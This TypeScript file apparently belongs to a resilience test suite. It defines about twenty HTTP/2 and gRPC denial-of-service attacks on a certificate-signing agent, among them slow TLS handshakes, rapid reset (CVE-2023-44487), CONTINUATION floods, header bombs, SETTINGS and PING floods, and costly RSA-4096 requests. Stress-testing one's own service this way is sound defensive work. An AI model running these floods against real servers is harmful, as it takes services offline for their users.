import net from 'node:net';
import { encodeRequest } from '../support/wire/protobuf.ts';
import { frame as grpcFrame } from '../support/wire/channel.ts';
import {
  Attacker,
  callBlock,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  many,
  type Target,
} from './exhaustion_attacker.ts';

export interface Arena {
  target: Target;
  /** A token that the agent accepts: the attacker owns a pod. */
  token: string;
  /** PEM of a CSR that the pod may send. */
  csr: () => string;
  /** Grows counts from those of a quick run to those of a whole one. */
  scale: number;
  /** Whatever was opened and must be closed after the attack. */
  opened: { readonly gone: boolean; close(): void }[];
}

const PARALLEL = 32;
const SMALL = Buffer.alloc(0);

async function attackers(arena: Arena, count: number, reading = true): Promise<Attacker[]> {
  const all = await many(count, PARALLEL, async () => (await Attacker.open(arena.target, reading)).hello());
  arena.opened.push(...all);
  return all;
}

function sockets(arena: Arena, count: number, first: Uint8Array): Promise<net.Socket[]> {
  const { port, host } = arena.target;
  return many(count, PARALLEL, async () => {
    const socket = net.connect(port, host);
    arena.opened.push({
      get gone() {
        return socket.destroyed;
      },
      close: () => socket.destroy(),
    });
    socket.on('error', () => undefined);
    await new Promise((resolve) => socket.once('connect', resolve).once('close', resolve));
    socket.write(first);
    return socket;
  });
}

const headers = (arena: Arena, stream: number, flags = END_HEADERS, token = arena.token): Buffer =>
  frame(FRAME.headers, flags, stream, callBlock(arena.target.serverName, token));
const message = (arena: Arena): Buffer => grpcFrame(encodeRequest({ csr: arena.csr(), validityDuration: 3_600 }));
/** The first octets of a message of the greatest size that is taken, and no end. */
const unfinished = (octets: number): Buffer => Buffer.concat([Buffer.from('0000010000', 'hex'), Buffer.alloc(octets)]);
const times = (count: number, make: (index: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
/** Odd numbers are streams of a client. */
const streamAt = (index: number): number => 2 * index + 1;
const junkToken = (index: number): string =>
  [
    '{"alg":"RS256","kid":"k' + index + '"}',
    '{"iss":"https://kubernetes.default.svc","sub":"' + index + '"}',
    'signature',
  ]
    .map((part) => Buffer.from(part).toString('base64url'))
    .join('.');

/** Each returns when it has sent what it has to send; its connections stay until the arena closes them. */
export const ATTACKS: Readonly<Record<string, (arena: Arena) => Promise<void>>> = {
  'slow TLS handshakes': async (arena) => void (await sockets(arena, 2_000 * arena.scale, Buffer.from([22]))),

  'handshakes, one after the other': async (arena) => {
    await many(3_000 * arena.scale, PARALLEL, async () => (await Attacker.open(arena.target)).close());
  },

  'idle connections': async (arena) => void (await attackers(arena, 10_000 * arena.scale)),

  'slow headers': async (arena) => {
    for (const one of await attackers(arena, 1_000 * arena.scale)) await one.send(headers(arena, 1).subarray(0, 200));
  },

  'slow bodies, with a good token': async (arena) => {
    const part = frame(FRAME.data, 0, 1, unfinished(0));
    for (const one of await attackers(arena, 1_000 * arena.scale)) {
      await one.send(times(50, (index) => Buffer.concat([headers(arena, streamAt(index)), withStream(part, index)])));
    }
  },

  'bodies that stop before their end': async (arena) => {
    for (const one of await attackers(arena, 400 * arena.scale)) {
      for (let index = 0; index < 50; index++) {
        const data = unfinished(15_000);
        await one.send(Buffer.concat([headers(arena, streamAt(index)), frame(FRAME.data, 0, streamAt(index), data)]));
      }
    }
  },

  'more streams than are allowed': async (arena) => {
    for (const one of await attackers(arena, 200 * arena.scale)) {
      await one.send(times(500, (index) => headers(arena, streamAt(index))));
    }
  },

  'rapid reset (CVE-2023-44487)': async (arena) => {
    const cancel = Buffer.from([0, 0, 0, 8]);
    const pair = (index: number): Buffer =>
      Buffer.concat([
        headers(arena, streamAt(index), END_HEADERS | END_STREAM),
        frame(FRAME.rstStream, 0, streamAt(index), cancel),
      ]);
    for (const one of await attackers(arena, 100 * arena.scale)) await one.send(times(2_000, pair));
  },

  'CONTINUATION flood': async (arena) => {
    const more = times(2_000, () => frame(FRAME.continuation, 0, 1, Buffer.from('00017801', 'hex')));
    for (const one of await attackers(arena, 100 * arena.scale)) {
      await one.send(Buffer.concat([headers(arena, 1, 0), more]));
    }
  },

  'CONTINUATION flood without content': async (arena) => {
    const more = times(20_000, () => frame(FRAME.continuation, 0, 1, SMALL));
    for (const one of await attackers(arena, 100 * arena.scale)) {
      await one.send(Buffer.concat([headers(arena, 1, 0), more]));
    }
  },

  'header bomb: one long field, thousands of times': async (arena) => {
    const field = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0x81, 0x1d]), Buffer.alloc(3_840, 0x61)]);
    const block = Buffer.concat([field, Buffer.alloc(10_000, 0xbe)]);
    for (const one of await attackers(arena, 200 * arena.scale)) {
      await one.send(frame(FRAME.headers, END_HEADERS | END_STREAM, 1, block));
    }
  },

  'SETTINGS flood, acknowledgements not read': async (arena) => {
    const flood = times(5_000, () => frame(FRAME.settings, 0, 0, SMALL));
    for (const one of await attackers(arena, 100 * arena.scale, false)) await one.send(flood).catch(() => undefined);
  },

  'SETTINGS with thousands of entries': async (arena) => {
    const entries = frame(
      FRAME.settings,
      0,
      0,
      times(2_000, () => Buffer.from([0, 4, 0, 0, 255, 255])),
    );
    for (const one of await attackers(arena, 100 * arena.scale)) await one.send(times(20, () => entries));
  },

  'PING flood, answers not read': async (arena) => {
    const flood = times(5_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)));
    for (const one of await attackers(arena, 100 * arena.scale, false)) await one.send(flood);
  },

  'empty DATA frames': async (arena) => {
    for (const one of await attackers(arena, 100 * arena.scale)) {
      await one.send(Buffer.concat([headers(arena, 1), times(20_000, () => frame(FRAME.data, 0, 1, SMALL))]));
    }
  },

  'messages of 3 MiB': async (arena) => {
    const data = [Buffer.from('0000300000', 'hex'), ...Array.from({ length: 192 }, () => Buffer.alloc(16_384))];
    for (const one of await attackers(arena, 50 * arena.scale)) {
      await one.send(Buffer.concat([headers(arena, 1), ...data.map((part) => frame(FRAME.data, 0, 1, part))]));
    }
  },

  'a window of nothing: answers that are never taken': async (arena) => {
    const closed = frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
    const body = (index: number): Buffer => frame(FRAME.data, END_STREAM, streamAt(index), message(arena));
    for (const one of await attackers(arena, 40 * arena.scale)) {
      await one.send(
        Buffer.concat([closed, times(20, (index) => Buffer.concat([headers(arena, streamAt(index)), body(index)]))]),
      );
    }
  },

  'garbage tokens, each with a key id of its own': async (arena) => {
    const body = message(arena);
    for (const one of await attackers(arena, 100 * arena.scale)) {
      for (let index = 0; index < 100; index++) {
        const call = [
          headers(arena, streamAt(index), END_HEADERS, junkToken(index)),
          frame(FRAME.data, END_STREAM, streamAt(index), body),
        ];
        await one.send(Buffer.concat(call));
      }
    }
  },

  'RSA-4096 requests': async (arena) => {
    const body = message(arena);
    for (const one of await attackers(arena, 20 * arena.scale)) {
      await one.send(
        times(20, (index) =>
          Buffer.concat([headers(arena, streamAt(index)), frame(FRAME.data, END_STREAM, streamAt(index), body)]),
        ),
      );
    }
  },
};

function withStream(bytes: Buffer, index: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32BE(streamAt(index), 5);
  return copy;
}
